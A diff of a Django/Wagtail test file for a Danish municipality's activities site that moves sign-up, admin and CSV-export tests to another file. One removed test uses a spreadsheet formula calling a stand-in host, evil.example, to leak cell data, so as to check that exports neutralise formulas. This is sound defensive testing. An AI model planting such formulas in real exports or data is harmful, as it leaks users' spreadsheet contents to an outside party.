@@ -1,104 +1,36 @@
-"""Activities: the index and its calendar, the activity pages, the sign-up and what the
-procesleder does with the sign-ups."""
+"""Activities: the index and its calendar, the activity pages and the page type rules (the
+sign-ups: tests/test_signups.py)."""
 
-import csv
 import datetime
-import io
 import json
-import threading
 import time
 
 import pytest
-from django.core import mail
-from django.core.management import call_command
-from django.db import IntegrityError, connection, transaction
 from django.test import Client
-from django.test.utils import CaptureQueriesContext
 from django.utils import timezone
 from icalendar import Calendar
-from wagtail.test.utils import WagtailPageTestCase
 
-from activities.dates import DANISH_TIME, danish_period
-from activities.forms import SignUpForm
+from activities.dates import danish_period
 from activities.models import (
-    ActivityIndexPage,
-    ActivityPage,
     ActivityType,
     SignUp,
     upcoming_activities,
 )
-from faxeif.cache import invalidate
-from home.models import HomePage
 from pages.blocks import BodyBlock
-from tests.support.editor_posts import page_edit_data
 from tests.support.html import soup, text_of
+from tests.support.queries import BUDGET, uncached_queries
 from tests.support.showcase_activities import (
-    activity_index,
+    add_activity,
+    at,
     build,
     days_ahead,
     extra_urls,
-    publish_activity,
+    sign_up,
 )
 
 UTC = datetime.UTC
 HOUR = datetime.timedelta(hours=1)
 DAY = datetime.timedelta(days=1)
-BUDGET = 12
-
-
-def at(year, month, day, hour=9, minute=0) -> datetime.datetime:
-    return datetime.datetime(year, month, day, hour, minute, tzinfo=DANISH_TIME)
-
-
-@pytest.fixture
-def index(seeded):
-    return activity_index()
-
-
-_slugs = iter(range(1, 10_000))
-
-
-def add_activity(index, title, start, end=None, **fields) -> ActivityPage:
-    """A published activity in `index` (the one activity index) with a slug of its own."""
-    assert index.pk == activity_index().pk
-    return publish_activity(
-        title, f"aktivitet-{next(_slugs)}", start, end=end or start + 6 * HOUR, **fields
-    )
-
-
-@pytest.fixture
-def temadag(index):
-    return add_activity(
-        index,
-        "Temadag om samskabelse",
-        days_ahead(10),
-        activity_type=ActivityType.TEMADAG,
-        audience="Alle ledere",
-        introduction="En dag om at skabe sammen.",
-        signup_enabled=True,
-        capacity=2,
-    )
-
-
-@pytest.fixture
-def clock(monkeypatch):
-    """Set the time the site believes it is."""
-
-    def set_now(moment):
-        monkeypatch.setattr(timezone, "now", lambda: moment.astimezone(UTC))
-
-    return set_now
-
-
-def sign_up(client, activity, **fields):
-    data = {
-        "name": "Mette Hansen",
-        "email": "meha@faxekommune.dk",
-        "workplace": "Haslev Bibliotek",
-        "comment": "",
-        **fields,
-    }
-    return client.post(activity.signup_url(), data)
 
 
 def ics(response) -> Calendar:
@@ -313,228 +245,6 @@ def test_activity_pages_change_when_the_sign_up_closes_without_anyone_editing(cl
     assert "Tilmeldingen er lukket." in text_of(response, ".signup-box")
 
 
-# The sign-up
-
-
-@pytest.mark.django_db
-def test_sign_up_form_lives_on_its_own_address_and_is_never_cached(client, temadag):
-    response = client.get(temadag.signup_url())
-    assert response.status_code == 200
-    assert "no-store" in response["Cache-Control"] and "private" in response["Cache-Control"]
-    form = soup(response).select_one("form.signup-form")
-    assert form["method"] == "post" and form["action"] == temadag.signup_url()
-    labels = [label.get_text() for label in form.select("label")]
-    assert labels[:4] == ["Navn", "Arbejdsmail", "Arbejdsplads", "Kommentar (valgfri)"]
-    privacy = text_of(response, ".privacy")
-    assert "til tilmeldingen og til intet andet" in privacy
-    assert "Vi sletter din tilmelding 30 dage efter aktiviteten." in privacy
-    assert soup(response).select_one("meta[name=robots]")["content"] == "noindex"
-    assert client.get(temadag.signup_url())["X-Cache"] == "MISS"
-
-
-@pytest.mark.django_db
-def test_the_sign_up_steps_have_their_own_breadcrumb_after_the_activity(client, temadag):
-    for url, step in [(temadag.signup_url(), "Tilmelding"), (temadag.thanks_url(), "Kvittering")]:
-        crumbs = soup(client.get(url)).select_one("nav.breadcrumbs")
-        assert [li.get_text(strip=True) for li in crumbs.find_all("li")] == [
-            "Forside",
-            "Aktiviteter",
-            "Temadag om samskabelse",
-            step,
-        ]
-        assert crumbs.find_all("a")[-1]["href"] == temadag.url
-        assert crumbs.select_one("[aria-current='page']").get_text() == step
-    activity = soup(client.get(temadag.url)).select_one("nav.breadcrumbs [aria-current='page']")
-    assert activity.get_text() == "Temadag om samskabelse"
-
-
-@pytest.mark.django_db
-def test_sign_ups_take_the_seats_then_go_on_the_waiting_list(client, temadag):
-    for n in range(3):
-        response = sign_up(client, temadag, email=f"person{n}@faxekommune.dk", name=f"Person {n}")
-        assert response.status_code == 302
-        assert response["Location"].startswith(f"{temadag.url}tilmelding/tak/?kvittering=")
-    statuses = list(temadag.signups.order_by("created", "pk").values_list("status", flat=True))
-    assert statuses == ["confirmed", "confirmed", "waiting"]
-
-    thanks = client.get(response["Location"])
-    assert "no-store" in thanks["Cache-Control"]
-    assert soup(thanks).h1.get_text() == "Du står på ventelisten"
-    assert "Vi har sendt en bekræftelse til person2@faxekommune.dk." in text_of(thanks, "main")
-
-    confirmed = client.get(sign_up(client, temadag, email="ny@faxekommune.dk")["Location"])
-    assert soup(confirmed).h1.get_text() == "Du står på ventelisten"
-    # A receipt cannot be made up.
-    forged = client.get(f"{temadag.url}tilmelding/tak/?kvittering=1")
-    assert forged.status_code == 200
-    assert "Vi har sendt en bekræftelse til" not in text_of(forged, "main")
-
-
-@pytest.mark.django_db
-def test_confirmation_e_mail_says_what_and_when(client, temadag):
-    sign_up(client, temadag, email="a@faxekommune.dk")
-    sign_up(client, temadag, email="b@faxekommune.dk")
-    sign_up(client, temadag, email="c@faxekommune.dk", name="Carl")
-    assert [m.to for m in mail.outbox] == [
-        ["a@faxekommune.dk"],
-        ["b@faxekommune.dk"],
-        ["c@faxekommune.dk"],
-    ]
-    first, waiting = mail.outbox[0], mail.outbox[2]
-    assert first.subject == "Tilmelding: Temadag om samskabelse"
-    assert first.from_email == "noreply@faxeifaellesskab.dk"
-    assert "Du er tilmeldt Temadag om samskabelse." in first.body
-    assert f"Tidspunkt: {temadag.when}" in first.body
-    assert f"http://testserver{temadag.url}kalender.ics" in first.body
-    assert "tbrag@faxekommune.dk" in first.body, "whom to write to for changes"
-    assert "vi sletter dem 30 dage efter aktiviteten" in first.body
-    assert waiting.subject == "Venteliste: Temadag om samskabelse"
-    assert waiting.body.startswith("Hej Carl")
-    assert "står på ventelisten" in waiting.body
-
-
-@pytest.mark.django_db
-def test_a_second_sign_up_with_the_same_address_is_refused_politely(client, temadag):
-    sign_up(client, temadag, email="meha@faxekommune.dk")
-    response = sign_up(client, temadag, email="MeHa@FaxeKommune.dk", name="Mette H.")
-    assert response.status_code == 200
-    assert "Der er allerede en tilmelding til aktiviteten med den e-mailadresse" in text_of(
-        response, ".field--error"
-    )
-    assert temadag.signups.count() == 1
-    assert len(mail.outbox) == 1
-    # The same person may sign up for another activity.
-    other = add_activity(
-        temadag.get_parent().specific, "Workshop", days_ahead(12), signup_enabled=True
-    )
-    assert sign_up(client, other, email="meha@faxekommune.dk").status_code == 302
-
-
-@pytest.mark.django_db
-def test_the_database_refuses_a_double_sign_up_too(temadag):
-    SignUp.objects.create(activity=temadag, name="A", email="a@faxe.dk", workplace="X")
-    with pytest.raises(IntegrityError), transaction.atomic():
-        SignUp.objects.create(activity=temadag, name="A", email="A@FAXE.DK", workplace="X")
-
-
-@pytest.mark.django_db(transaction=True, serialized_rollback=True)
-def test_two_people_cannot_both_take_the_last_seat(seeded):
-    activity = add_activity(
-        activity_index(), "Temadag med én plads", days_ahead(10), signup_enabled=True, capacity=1
-    )
-    result = {}
-    if connection.vendor != "postgresql":
-        # SQLite has no row locks: it lets one writer in at a time, so the two come in turn.
-        for letter in "AB":
-            data = {"name": letter, "email": f"{letter}@faxe.dk", "workplace": "X"}
-            form = SignUpForm(data, activity=activity)
-            assert form.is_valid()
-            result[letter] = form.save()
-        assert result["A"].status == SignUp.Status.CONFIRMED
-        assert result["B"].status == SignUp.Status.WAITING
-        return
-
-    def second_person():
-        try:
-            data = {"name": "B", "email": "b@faxe.dk", "workplace": "X"}
-            form = SignUpForm(data, activity=activity)
-            assert form.is_valid()
-            result["signup"] = form.save()
-        finally:
-            connection.close()
-
-    second = threading.Thread(target=second_person)
-    with transaction.atomic():
-        # The first person's sign-up holds the lock on the activity while it counts the seats...
-        ActivityPage.objects.select_for_update(of=("self",)).get(pk=activity.pk)
-        second.start()
-        second.join(timeout=1)
-        assert second.is_alive(), "the second sign-up waits for the first"
-        SignUp.objects.create(activity=activity, name="A", email="a@faxe.dk", workplace="X")
-    # ...and takes the last seat, so the second goes on the waiting list.
-    second.join(timeout=10)
-    assert result["signup"].status == SignUp.Status.WAITING
-
-
-@pytest.mark.django_db
-def test_invalid_input_shows_danish_errors_and_keeps_what_was_typed(client, temadag):
-    response = sign_up(
-        client,
-        temadag,
-        name="Mette Hansen",
-        email="ikke-en-adresse",
-        workplace="",
-        comment="Jeg kommer lidt senere.",
-    )
-    assert response.status_code == 200
-    page = soup(response)
-    assert page.title.get_text().startswith("Fejl i tilmeldingen:")
-    summary = text_of(response, ".error-summary")
-    assert "Arbejdsmail: Skriv en gyldig e-mailadresse, fx navn@faxekommune.dk." in summary
-    assert "Arbejdsplads: Skriv din arbejdsplads." in summary
-    assert page.select_one(".error-summary a")["href"] == "#id_email"
-    email = page.select_one("#id_email")
-    assert email["value"] == "ikke-en-adresse"
-    assert email["aria-invalid"] == "true"
-    assert "id_email_error" in email["aria-describedby"].split()
-    assert page.select_one("#id_email_error").get_text() == (
-        "Fejl: Skriv en gyldig e-mailadresse, fx navn@faxekommune.dk."
-    )
-    assert page.select_one("#id_name")["value"] == "Mette Hansen"
-    assert page.select_one("#id_comment").get_text().strip() == "Jeg kommer lidt senere."
-    assert not temadag.signups.exists() and not mail.outbox
-
-
-@pytest.mark.django_db
-def test_a_filled_in_honeypot_pretends_success_and_saves_nothing(client, temadag):
-    form = soup(client.get(temadag.signup_url()))
-    trap = form.select_one("#id_website")
-    assert trap["tabindex"] == "-1" and trap["autocomplete"] == "off"
-    assert trap.find_parent(attrs={"aria-hidden": "true"}) is not None
-    assert "visually-hidden" in trap.find_parent("div")["class"]
-
-    response = sign_up(client, temadag, website="https://spam.example/")
-    assert response.status_code == 302
-    thanks = client.get(response["Location"])
-    assert soup(thanks).h1.get_text() == "Tak for din tilmelding"
-    assert not SignUp.objects.exists() and not mail.outbox
-
-
-@pytest.mark.django_db
-def test_sign_up_needs_the_csrf_token(temadag):
-    browser = Client(enforce_csrf_checks=True)
-    data = {"name": "Mette", "email": "m@faxekommune.dk", "workplace": "Haslev"}
-    assert browser.post(temadag.signup_url(), data).status_code == 403
-    assert not SignUp.objects.exists()
-
-    form = browser.get(temadag.signup_url())
-    token = soup(form).select_one("input[name=csrfmiddlewaretoken]")["value"]
-    response = browser.post(temadag.signup_url(), {**data, "csrfmiddlewaretoken": token})
-    assert response.status_code == 302
-    assert SignUp.objects.get().email == "m@faxekommune.dk"
-
-
-@pytest.mark.django_db
-def test_no_sign_up_after_the_deadline_or_when_sign_up_is_off(client, index):
-    closed = add_activity(
-        index,
-        "Lukket temadag",
-        days_ahead(5),
-        signup_enabled=True,
-        signup_deadline=timezone.now() - HOUR,
-    )
-    assert "Tilmeldingen er lukket." in text_of(client.get(closed.url), ".signup-box")
-    response = sign_up(client, closed)
-    assert response.status_code == 200
-    assert "Tilmeldingen er lukket." in text_of(response, "main")
-    assert soup(response).select_one("form.signup-form") is None
-
-    without = add_activity(index, "Åbent seminar", days_ahead(5))
-    assert client.get(without.signup_url()).status_code == 404
-    assert sign_up(client, without).status_code == 404
-    assert not SignUp.objects.exists()
-
-
 # The index
 
 
@@ -651,16 +361,6 @@ def test_other_pages_get_the_next_activities_soonest_first(index):
     assert [a.title for a in upcoming_activities(limit=1)] == ["I morgen"]
 
 
-def uncached_queries(client, url, page, django_assert_max_num_queries) -> int:
-    """Queries to render the page as after publishing it (see tests/test_query_budget.py)."""
-    client.get(url)
-    invalidate(f"page:{page.pk}")
-    with CaptureQueriesContext(connection) as queries, django_assert_max_num_queries(BUDGET):
-        response = client.get(url)
-    assert response.status_code == 200 and response["X-Cache"] == "MISS"
-    return len(queries.captured_queries)
-
-
 @pytest.mark.django_db
 def test_index_queries_stay_within_the_budget_for_1_and_30_activities(
     client, index, django_assert_max_num_queries
@@ -672,13 +372,13 @@ def test_index_queries_stay_within_the_budget_for_1_and_30_activities(
             )
 
     grow(range(1))
-    with_one = uncached_queries(client, "/aktiviteter/", index, django_assert_max_num_queries)
+    with_one = uncached_queries(client, "/aktiviteter/", django_assert_max_num_queries, index)
     grow(range(1, 30))
-    assert uncached_queries(client, "/aktiviteter/", index, django_assert_max_num_queries) == (
+    assert uncached_queries(client, "/aktiviteter/", django_assert_max_num_queries, index) == (
         with_one
     )
     filtered = "/aktiviteter/?type=temadag&side=2"
-    assert uncached_queries(client, filtered, index, django_assert_max_num_queries) == with_one
+    assert uncached_queries(client, filtered, django_assert_max_num_queries, index) == with_one
 
 
 @pytest.mark.django_db
@@ -690,164 +390,7 @@ def test_showcase_pages_render_within_the_budget(
     for page in pages.values():
         saved = type(page).objects.get(pk=page.pk)
         assert {block.block_type for block in saved.body} == set(BodyBlock.base_blocks)
-        uncached_queries(client, page.url, page, django_assert_max_num_queries)
+        uncached_queries(client, page.url, django_assert_max_num_queries, page)
     for url in extra_urls(pages).values():  # the sign-up form and its receipt, never cached
         with django_assert_max_num_queries(BUDGET):
             assert client.get(url).status_code == 200
-
-
-# What the procesleder does with the sign-ups
-
-
-@pytest.mark.django_db
-def test_purge_deletes_only_the_sign_ups_of_activities_that_ended_long_ago(index):
-    old = add_activity(index, "Gammel", days_ahead(-40))
-    recent = add_activity(index, "Nylig", days_ahead(-20))
-    coming = add_activity(index, "Kommende", days_ahead(10))
-    for activity in (old, recent, coming):
-        SignUp.objects.create(activity=activity, name="A", email="a@faxe.dk", workplace="X")
-        SignUp.objects.create(activity=activity, name="B", email="b@faxe.dk", workplace="X")
-
-    out = io.StringIO()
-    call_command("purge_signups", stdout=out)
-    assert "Deleted 2 sign-ups" in out.getvalue()
-    assert set(SignUp.objects.values_list("activity__title", flat=True)) == {"Nylig", "Kommende"}
-
-    call_command("purge_signups", "--days", "10", stdout=out)
-    assert set(SignUp.objects.values_list("activity__title", flat=True)) == {"Kommende"}
-    assert "Deleted 2 sign-ups of activities that ended more than 10 days ago" in out.getvalue()
-
-
-@pytest.mark.django_db
-def test_procesleder_edits_an_activity_in_the_admin(procesleder_client, client, temadag):
-    data = page_edit_data(
-        procesleder_client,
-        temadag,
-        activity_type="flla",
-        start="10.10.2030 09:00",
-        end="10.10.2030 15:30",
-        capacity="25",
-        body=[("heading", {"text": "Program", "level": "3"})],
-        # A ticked checkbox without a value attribute: the browser posts "on".
-        signup_enabled="on",
-        **{"action-publish": "action-publish"},
-    )
-    response = procesleder_client.post(f"/admin/pages/{temadag.pk}/edit/", data)
-    assert response.status_code == 302
-    saved = ActivityPage.objects.get(pk=temadag.pk)
-    assert saved.start == at(2030, 10, 10, 9) and saved.end == at(2030, 10, 10, 15, 30)
-    assert saved.capacity == 25 and saved.activity_type == "flla"
-    assert [(b.block_type, b.value["text"]) for b in saved.body] == [("heading", "Program")]
-    page = text_of(client.get(temadag.url), "main")
-    assert "Faxe Leder & LæringsAkademi" in page
-    assert "torsdag 10. oktober 2030, kl. 9.00-15.30" in page
-    assert "Der er 25 ledige pladser ud af 25." in page
-
-
-@pytest.mark.django_db
-def test_the_admin_refuses_an_activity_that_ends_before_it_starts(procesleder_client, temadag):
-    data = page_edit_data(
-        procesleder_client, temadag, start="10.10.2030 15:00", end="10.10.2030 09:00"
-    )
-    response = procesleder_client.post(f"/admin/pages/{temadag.pk}/edit/", data)
-    assert response.status_code == 200
-    assert "Aktiviteten skal slutte, efter den begynder." in response.content.decode()
-
-
-@pytest.mark.django_db
-def test_procesleder_lists_filters_and_exports_the_sign_ups(procesleder_client, index, temadag):
-    other = add_activity(index, "Seminar om ledelse", days_ahead(20), signup_enabled=True)
-    for activity, name in ((temadag, "Mette Hansen"), (temadag, "Jens Jensen"), (other, "Ida")):
-        sign_up(Client(), activity, name=name, email=f"{name.split()[0].lower()}@faxekommune.dk")
-    SignUp.objects.filter(name="Jens Jensen").update(status="waiting")
-
-    menu = procesleder_client.get("/admin/").content.decode()
-    assert "Tilmeldinger" in menu
-    listing = procesleder_client.get(f"/admin/tilmeldinger/?activity={temadag.pk}")
-    assert listing.status_code == 200
-    rows = text_of(listing, "table tbody")
-    assert "Mette Hansen" in rows and "Jens Jensen" in rows and "Ida" not in rows
-
-    export = procesleder_client.get(f"/admin/tilmeldinger/?activity={temadag.pk}&export=csv")
-    assert export.status_code == 200
-    assert export["Content-Type"].startswith("text/csv")
-    assert 'filename="tilmeldinger.csv"' in export["Content-Disposition"]
-    content = b"".join(export.streaming_content).decode()
-    header, *rows = list(csv.reader(io.StringIO(content)))
-    assert header == [
-        "Aktivitet",
-        "Aktivitetens tidspunkt",
-        "Navn",
-        "Arbejdsmail",
-        "Arbejdsplads",
-        "Kommentar",
-        "Status",
-        "Tilmeldt den",
-    ]
-    assert {(row[0], row[2], row[6]) for row in rows} == {
-        ("Temadag om samskabelse", "Mette Hansen", "Tilmeldt"),
-        ("Temadag om samskabelse", "Jens Jensen", "Venteliste"),
-    }
-    assert rows[0][1] == temadag.when
-
-
-@pytest.mark.django_db
-def test_the_csv_export_never_hands_a_spreadsheet_a_formula(procesleder_client, temadag):
-    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")'
-    SignUp.objects.create(
-        activity=temadag, name=formula, email="a@faxe.dk", workplace="@SUM(1+1)", comment="-2+3"
-    )
-    export = procesleder_client.get(f"/admin/tilmeldinger/?activity={temadag.pk}&export=csv")
-    content = b"".join(export.streaming_content).decode()
-    header, row = list(csv.reader(io.StringIO(content)))
-    assert (row[2], row[4], row[5]) == ("'" + formula, "'@SUM(1+1)", "'-2+3")
-    assert row[3] == "a@faxe.dk"
-
-
-@pytest.mark.django_db
-def test_procesleder_can_correct_and_delete_but_not_add_sign_ups(procesleder, index, temadag):
-    signup = SignUp.objects.create(activity=temadag, name="A", email="a@faxe.dk", workplace="X")
-    for action in ("view", "change", "delete"):
-        assert procesleder.has_perm(f"activities.{action}_signup")
-    assert not procesleder.has_perm("activities.add_signup")
-    client = Client()
-    client.force_login(procesleder)
-    assert client.get(f"/admin/tilmeldinger/edit/{signup.pk}/").status_code == 200
-    assert client.get("/admin/tilmeldinger/new/").status_code == 302  # permission denied
-
-
-@pytest.mark.django_db
-def test_visitors_cannot_see_the_sign_ups(client, temadag):
-    response = client.get("/admin/tilmeldinger/")
-    assert response.status_code == 302 and "/admin/login/" in response["Location"]
-
-
-# Page type rules
-
-
-class ActivityPageTypeRulesTests(WagtailPageTestCase):
-    def test_activities_live_only_in_the_activity_index(self):
-        self.assertAllowedSubpageTypes(ActivityIndexPage, {ActivityPage})
-        self.assertAllowedSubpageTypes(ActivityPage, set())
-        self.assertEqual(ActivityPage.parent_page_types, ["activities.ActivityIndexPage"])
-        self.assertCanNotCreateAt(HomePage, ActivityPage)
-
-    def test_home_page_offers_one_activity_index(self):
-        self.assertCanCreateAt(HomePage, ActivityIndexPage)
-
-    def test_the_activity_index_is_one_section_below_the_home_page(self):
-        self.assertEqual(ActivityIndexPage.parent_page_types, ["home.HomePage"])
-        home = HomePage.objects.get()
-        home.add_child(instance=ActivityIndexPage(title="Aktiviteter"))
-        self.assertFalse(ActivityIndexPage.can_create_at(home))
-        self.assertCanNotCreateAt(ActivityIndexPage, ActivityIndexPage)
-
-    def test_an_activity_ends_after_it_starts(self):
-        from django.core.exceptions import ValidationError
-
-        activity = ActivityPage(
-            title="Baglæns", start=at(2030, 1, 2, 15), end=at(2030, 1, 2, 9), place="Haslev"
-        )
-        with self.assertRaises(ValidationError) as raised:
-            activity.clean()
-        self.assertIn("end", raised.exception.message_dict)
